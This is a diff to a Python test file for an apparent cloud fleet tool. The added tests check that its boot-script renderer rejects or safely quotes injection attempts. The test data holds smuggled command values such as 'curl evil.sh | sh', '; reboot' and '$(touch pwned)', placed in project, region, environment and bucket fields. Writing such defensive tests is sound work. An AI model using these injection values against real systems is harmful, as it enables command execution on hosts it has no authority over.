@@ -2,7 +2,9 @@
 
 from __future__ import annotations
 
+import json
 import os
+import shlex
 import subprocess
 import sys
 
@@ -64,11 +66,106 @@ def test_local_mode_exports_the_variables_runs_the_init_script_then_execs_the_ag
     ]
 
 
-def test_an_env_value_with_a_newline_is_refused_for_the_systemd_unit():
-    env = load_environment("dev")
-    pool = env.pools["cpu"].model_copy(update={"env": {"A": "one\ntwo"}})
-    with pytest.raises(ValueError, match="newline"):
-        render_user_data(env.model_copy(update={"pools": {"cpu": pool}}), "cpu", artifacts_bucket="b")
+def _with_pool(environment, pool_name, **changes):
+    pool = environment.pools[pool_name].model_copy(update=changes)
+    return environment.model_copy(update={"pools": {**environment.pools, pool_name: pool}})
+
+
+# Values validation refuses, put into an Environment built in code: rendering refuses them too.
+REFUSED = [
+    ("env value with a newline", "dev", lambda env: _with_pool(env, "cpu", env={"A": "one\nreboot"}),
+     "pools.cpu.env.A: a value must be one line"),
+    ("init_script ending the heredoc", "dev", lambda env: _with_pool(env, "cpu", init_script="true\nTIDEFLEET_INIT_SCRIPT\nreboot"),
+     "pools.cpu.init_script: may not contain TIDEFLEET_INIT_SCRIPT"),
+    ("project id with a newline", "gcp-dev", lambda env: env.model_copy(update={"project": "acme\ncurl evil.sh | sh"}),
+     "project: not a GCP project id"),
+    ("region with a command", "dev", lambda env: env.model_copy(update={"region": "us-east-1; reboot"}),
+     "region: not a known aws region"),
+    ("environment name with a newline", "dev", lambda env: env.model_copy(update={"name": "dev\nreboot"}),
+     "name: bad environment name"),
+    ("pool name with a newline", "dev", lambda env: env.model_copy(update={"pools": {"cpu\nreboot": env.pools["cpu"]}}),
+     "pools.cpu\nreboot: bad name"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("case,env_name,change,expected", REFUSED, ids=[c[0] for c in REFUSED])
+def test_a_value_that_would_escape_the_boot_script_is_refused_by_field(case, env_name, change, expected):
+    env = change(load_environment(env_name))
+    pool = next(iter(env.pools))
+    with pytest.raises(ValueError) as err:
+        render_user_data(env, pool, artifacts_bucket="b")
+    assert expected in str(err.value)
+
+
+# Values validation accepts that mean something to bash or systemd: each must arrive as itself.
+HOSTILE_ENV = {
+    "SUBSTITUTION": "$(touch pwned) ${HOME}",
+    "BACKTICKS": "`touch pwned`",
+    "QUOTES": "it's \"quoted\"; touch pwned; '",
+    "SYSTEMD": "%h %% \\n \\\" x",
+    "GLOB": "a b * ? [x]",
+    "DELIMITER": "UNIT",
+}
+HOSTILE_BUCKET = "b\"%h'; touch pwned; 'x"
+
+
+def _systemd_environment(unit: str) -> dict[str, str]:
+    """The Environment= assignments of a unit, each read as systemd reads one double-quoted
+    word: backslash escapes the next character, '%%' is '%', and a lone '%' would be a specifier."""
+    out = {}
+    for line in unit.splitlines():
+        if not line.startswith("Environment="):
+            continue
+        text = line.removeprefix("Environment=")
+        assert text[0] == text[-1] == '"', f"not one quoted word: {line}"
+        chars, value = iter(text[1:-1]), ""
+        for c in chars:
+            if c == "\\":
+                value += next(chars)
+            elif c == "%":
+                assert next(chars) == "%", f"a specifier systemd would expand: {line}"
+                value += "%"
+            else:
+                assert c != '"', f"a quote ends the word early: {line}"
+                value += c
+        key, _, val = value.partition("=")
+        out[key] = val
+    return out
+
+
+@pytest.mark.parametrize("env_name,pool", [("prod", "gpu"), ("gcp-dev", "gpu")])
+def test_hostile_values_stay_one_word_in_the_cloud_boot_script(env_name, pool):
+    env = _with_pool(load_environment(env_name), pool, env=HOSTILE_ENV, init_script="echo 'UNIT' \"$(date)\"")
+    script = render_user_data(env, pool, artifacts_bucket=HOSTILE_BUCKET)
+    assert shellcheck(script) == ""
+    # The unit is the one quoted heredoc that ends on the line UNIT; systemd reads each value back whole.
+    unit = script.split("<<'UNIT'\n", 1)[1].split("\nUNIT\n", 1)[0]
+    assert "\nUNIT\n" not in unit
+    assigned = _systemd_environment(unit)
+    assert {k: assigned[k] for k in HOSTILE_ENV} == HOSTILE_ENV
+    assert assigned["TIDEFLEET_ARTIFACTS_BUCKET"] == HOSTILE_BUCKET
+    # The shell line that fetches the agent passes the bucket as one argument.
+    (fetch,) = [line for line in script.splitlines() if line.startswith(("aws s3 cp", "gcloud storage cp"))]
+    assert any(word.startswith(("s3://", "gs://")) and HOSTILE_BUCKET in word for word in shlex.split(fetch))
+
+
+def test_hostile_values_arrive_unchanged_when_the_local_boot_script_runs(tmp_path):
+    """Run the rendered script with bash: a stand-in interpreter reports its argv and environment."""
+    fake_python = tmp_path / "fake python"
+    fake_python.write_text(f"#!/bin/bash\nexec {shlex.quote(sys.executable)} -c "
+                           "'import json, os, sys; print(json.dumps([sys.argv[1:], dict(os.environ)]))' \"$@\"\n")  # fmt: skip
+    fake_python.chmod(0o755)
+    init = "printf '%s' \"$(echo ran)\" > marker\necho 'UNIT' >> marker"
+    env = _with_pool(load_environment("prod"), "gpu", env=HOSTILE_ENV, init_script=init)
+    script = render_user_data(env, "gpu", artifacts_bucket=HOSTILE_BUCKET, local={LOCAL_PYTHON: str(fake_python), "X": HOSTILE_BUCKET})
+    assert shellcheck(script) == ""
+    out = subprocess.run(["bash", "-c", script], capture_output=True, text=True, cwd=tmp_path,
+                         env={"PATH": os.environ["PATH"]}, check=True).stdout  # fmt: skip
+    argv, environ = json.loads(out)
+    assert argv == ["-m", "tidefleet.cli", "agent", "--env", "prod", "--pool", "gpu"]
+    assert {k: environ[k] for k in HOSTILE_ENV} == HOSTILE_ENV and environ["X"] == HOSTILE_BUCKET
+    assert (tmp_path / "marker").read_text() == "ranUNIT\n"
+    assert not (tmp_path / "pwned").exists()
 
 
 def test_the_sandbox_can_render_with_its_own_interpreter():
